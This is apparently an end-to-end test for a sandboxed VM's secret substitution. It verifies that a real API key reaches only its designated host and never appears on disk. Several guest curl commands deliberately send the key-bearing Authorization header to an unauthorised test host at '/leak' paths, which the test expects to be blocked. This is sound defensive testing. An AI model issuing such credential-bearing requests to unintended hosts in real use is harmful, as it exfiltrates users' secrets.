/**
 * Secrets end to end, in a real qemu VM, as the attacker: the guest holds
 * only a placeholder; netd intercepts its TLS, and the test checks the HOST
 * side (what real HTTPS servers in a test network namespace received, and
 * every file under the state home), never the guest's word.
 *
 * - `api.test` (203.0.113.204:443), the secret's host: its server receives
 *   the real value in the Authorization header (and in Basic credentials),
 *   through a certificate chain the guest's curl verified against netd's CA
 *   (the agent installed it), while netd verified the server's real
 *   certificate against the test CA given with `trustCa`.
 * - `other.test` (203.0.113.206:443): receives nothing of a request that
 *   carries the placeholder (netd answers 403), and does receive a plain
 *   request from the same client in the same run (the positive control).
 *   The same on its plain HTTP port 80 (not intercepted, scanned): netd
 *   resets the flow, and the server's raw bytes of that connection hold
 *   nothing of the request.
 * - No file under the state home (SQLite, vm.json, logs, console, disks)
 *   holds the value; the same search finds the placeholder (its control).
 * - A stopped sandbox with secrets cannot start again (SECRET_UNAVAILABLE).
 *
 * The agent, netd and initramfs are built from this checkout into the test's
 * own home (tests/util/fresh_assets.ts), so the code under test runs.
 */

import { join } from "node:path";
import { sandboxDir, skipVmReason, testHome } from "../util/e2e.ts";
import { assert, assertEquals, assertRejects } from "../util/assert.ts";
import { debianRoot } from "../../scripts/roots.ts";
import { type NetworkEvent, Sandbox, SecretUnavailableError } from "../../mod.ts";
import { netnsSkipReason } from "../util/netns.ts";
import { HTTPS_A, HTTPS_B, NsHttps } from "../util/ns_https.ts";
import { freshAssets } from "../util/fresh_assets.ts";

const ignore = skipVmReason !== undefined || netnsSkipReason !== undefined;
if (!skipVmReason && netnsSkipReason) console.log(`SKIPPING secrets tests: ${netnsSkipReason}`);

const VALUE = "sk-e2e-REAL-VALUE-7d41c0";
const NAME = "sec-e2e";

/** Streams `file` looking for `needle` (disks are large and sparse: never read whole). */
async function fileHolds(file: string, needle: Uint8Array): Promise<boolean> {
  using f = await Deno.open(file);
  const buf = new Uint8Array(1 << 20);
  let carry = new Uint8Array(0);
  for (;;) {
    const n = await f.read(buf);
    if (n === null) return false;
    const chunk = new Uint8Array(carry.length + n);
    chunk.set(carry);
    chunk.set(buf.subarray(0, n), carry.length);
    for (
      let i = chunk.indexOf(needle[0]);
      i >= 0 && i <= chunk.length - needle.length;
      i = chunk.indexOf(needle[0], i + 1)
    ) {
      let j = 1;
      while (j < needle.length && chunk[i + j] === needle[j]) j++;
      if (j === needle.length) return true;
    }
    carry = chunk.slice(Math.max(0, chunk.length - needle.length + 1));
  }
}

/** Regular files under `dir` (symlinks, such as the linked real cache and assets, are not this test's state). */
async function filesUnder(dir: string): Promise<string[]> {
  const out: string[] = [];
  for await (const e of Deno.readDir(dir)) {
    const p = join(dir, e.name);
    if (e.isDirectory) out.push(...await filesUnder(p));
    else if (e.isFile) out.push(p);
  }
  return out;
}

async function holding(needle: string): Promise<string[]> {
  const bytes = new TextEncoder().encode(needle);
  const hits: string[] = [];
  for (const f of await filesUnder(testHome)) {
    if (await fileHolds(f, bytes).catch(() => false)) hits.push(f);
  }
  return hits;
}

/** curl in the guest: `%{http_code}` and the body, or curl's error. */
async function curl(sb: Sandbox, args: string): Promise<{ code: string; out: string }> {
  const r = await sb.shell(
    `curl -sS --max-time 10 -o /tmp/body -w '%{http_code}' ${args}; echo " rc=$?"; cat /tmp/body`,
  );
  return { code: r.stdout.split(" ")[0], out: `${r.stdout}${r.stderr}` };
}

const VM_OPTS = { ignore, sanitizeResources: false, sanitizeOps: false };

/**
 * The servers (name → address) and a curl sandbox whose OPENAI_API_KEY is a
 * secret for api.test; netd answers the names itself (this test is about
 * TLS, not the upstream DNS path: network_test.ts) and trusts the servers' CA.
 */
async function world(name: string, names: Record<string, string>, detached = false) {
  await freshAssets(testHome);
  const root = await debianRoot(["busybox-static", "ca-certificates", "curl"], "debian-curl");
  const https = await NsHttps.start(names);
  try {
    const b = Sandbox.builder(name).image(root).memory(512)
      .network((n) => n.dns({ hosts: names }).trustCa(https.ca))
      .secretEnv("OPENAI_API_KEY", VALUE, "api.test");
    return { https, sb: detached ? await b.createDetached() : await b.create() };
  } catch (e) {
    await https[Symbol.asyncDispose]();
    throw e;
  }
}

Deno.test({
  name: "secrets: the value reaches only its host (host-side record), never another host nor a file",
  ...VM_OPTS,
}, async () => {
  const { https, sb } = await world(NAME, { "api.test": HTTPS_A, "other.test": HTTPS_B });
  await using _https = https;
  let stopped = false;
  try {
    const events: NetworkEvent[] = [];
    const eventsDone = new AbortController();
    const collecting = (async () => {
      for await (const e of sb.networkEvents({ signal: eventsDone.signal })) {
        events.push(e);
        if (
          events.some((x) => x.action === "secret-blocked") && events.some((x) => x.action === "secret-substituted")
        ) {
          break;
        }
      }
    })().catch(() => {});

    // The guest sees only the placeholder, and trusts netd's CA through the agent's variables.
    const env = await sb.shell('echo "$OPENAI_API_KEY $SSL_CERT_FILE $CURL_CA_BUNDLE"');
    const [placeholder, certFile] = env.stdout.trim().split(" ");
    assert(/^krunbox-secret-[0-9a-f]{32}$/.test(placeholder), env.stdout);
    assertEquals(certFile, "/run/krunbox/ca-bundle.pem");

    // The secret's host: the server records the real value, as a bearer token and inside Basic credentials.
    const bearer = await curl(sb, `-H "Authorization: Bearer $OPENAI_API_KEY" https://api.test/v1/models`);
    assertEquals(bearer.code, "200", bearer.out);
    const basic = await curl(sb, `-u "user:$OPENAI_API_KEY" https://api.test/basic`);
    assertEquals(basic.code, "200", basic.out);
    const atApi = https.records().filter((r) => r.server === "api.test");
    assertEquals(atApi.map((r) => r.target), ["/v1/models", "/basic"]);
    assertEquals(atApi[0].headers["Authorization"], [`Bearer ${VALUE}`]);
    assertEquals(atApi[1].headers["Authorization"], [`Basic ${btoa(`user:${VALUE}`)}`]);
    assertEquals([atApi[0].sni, atApi[0].host], ["api.test", "api.test"]);

    // The system trust store holds netd's CA too: curl without the agent's variables verifies through it.
    const store = await sb.shell(
      "env -u CURL_CA_BUNDLE -u SSL_CERT_FILE curl -sS --max-time 10 -o /dev/null -w '%{http_code}' https://api.test/store",
    );
    assertEquals(store.stdout, "200", store.stderr);
    assertEquals(https.records().filter((r) => r.target === "/store").length, 1);

    // Another host: a plain request arrives (control); the placeholder does not, and netd answers 403.
    const plain = await curl(sb, "https://other.test/plain");
    assertEquals(plain.code, "200", plain.out);
    const leak = await curl(sb, `-H "Authorization: Bearer $OPENAI_API_KEY" https://other.test/leak`);
    assertEquals(leak.code, "403", leak.out);
    const leakBasic = await curl(sb, `-u "user:$OPENAI_API_KEY" https://other.test/leak-basic`);
    assertEquals(leakBasic.code, "403", leakBasic.out);
    const atOther = https.records().filter((r) => r.server === "other.test");
    assertEquals(atOther.map((r) => r.target), ["/plain"], "other.test received only the plain request");
    assert(!JSON.stringify(https.records()).includes(placeholder), "no placeholder reached any server");
    assert(!JSON.stringify(atOther).includes(VALUE), "other.test never saw the value");

    // Plain HTTP (port 80) is not intercepted but scanned: a plain request arrives (control); one carrying the
    // placeholder is reset by netd (curl fails) and the server's raw record of that connection holds nothing of it.
    const plain80 = await curl(sb, "http://other.test/plain80");
    assertEquals(plain80.code, "200", plain80.out);
    const leak80 = await curl(sb, `-H "Authorization: Bearer $OPENAI_API_KEY" http://other.test/leak80`);
    assertEquals(leak80.code, "000", leak80.out);
    const raw = () => https.records().filter((r) => r.raw !== undefined);
    for (let i = 0; i < 50 && raw().length < 2; i++) await new Promise((r) => setTimeout(r, 100));
    const conns80 = raw();
    assertEquals(conns80.length, 2, `both port-80 connections reached the server: ${JSON.stringify(conns80)}`);
    assert(conns80.some((r) => r.raw!.includes("GET /plain80 ")), JSON.stringify(conns80));
    assert(
      !conns80.some((r) => r.raw!.includes("/leak80")),
      `nothing of the leaking request: ${JSON.stringify(conns80)}`,
    );
    assert(!JSON.stringify(https.records()).includes(placeholder), "no placeholder reached any server");

    setTimeout(() => eventsDone.abort(), 5_000);
    await collecting;
    const subst = events.filter((e) => e.action === "secret-substituted");
    const blocked = events.filter((e) => e.action === "secret-blocked");
    assert(subst.length > 0 && subst.every((e) => e.name === "api.test"), JSON.stringify(events));
    assert(blocked.length > 0 && blocked.every((e) => e.name === "other.test"), JSON.stringify(events));
    assert(!JSON.stringify(events).includes(VALUE), "no event holds the value");

    // No file under the state home holds the value, running and stopped; the placeholder is found (control).
    assertEquals(await holding(VALUE), [], "files holding the value while running");
    await sb.stop();
    stopped = true;
    assertEquals(await holding(VALUE), [], "files holding the value once stopped");
    const withPlaceholder = await holding(placeholder);
    assert(withPlaceholder.some((f) => f.startsWith(sandboxDir(NAME))), JSON.stringify(withPlaceholder));
    assert(
      (await filesUnder(sandboxDir(NAME))).some((f) => f.endsWith("console.log")),
      "the console log was among the files searched",
    );

    // The values are gone with the runner: a start refuses at once, naming the secret.
    await assertRejects(() => Sandbox.start(NAME), SecretUnavailableError, "OPENAI_API_KEY");
  } finally {
    if (!stopped) await sb.stop().catch(() => sb.kill().catch(() => {}));
    await sb.removePersisted().catch(() => {});
  }
});

Deno.test({
  name: "secrets: a detached sandbox gets its values too (the runner's stdin closes after them)",
  ...VM_OPTS,
}, async () => {
  const { https, sb } = await world(`${NAME}-detached`, { "api.test": HTTPS_A }, true);
  await using _https = https;
  try {
    const r = await curl(sb, `-H "Authorization: Bearer $OPENAI_API_KEY" https://api.test/detached`);
    assertEquals(r.code, "200", r.out);
    const got = https.records().filter((x) => x.target === "/detached");
    assertEquals(got.map((x) => x.headers["Authorization"]), [[`Bearer ${VALUE}`]]);
  } finally {
    await sb.removePersisted().catch(() => {});
  }
});
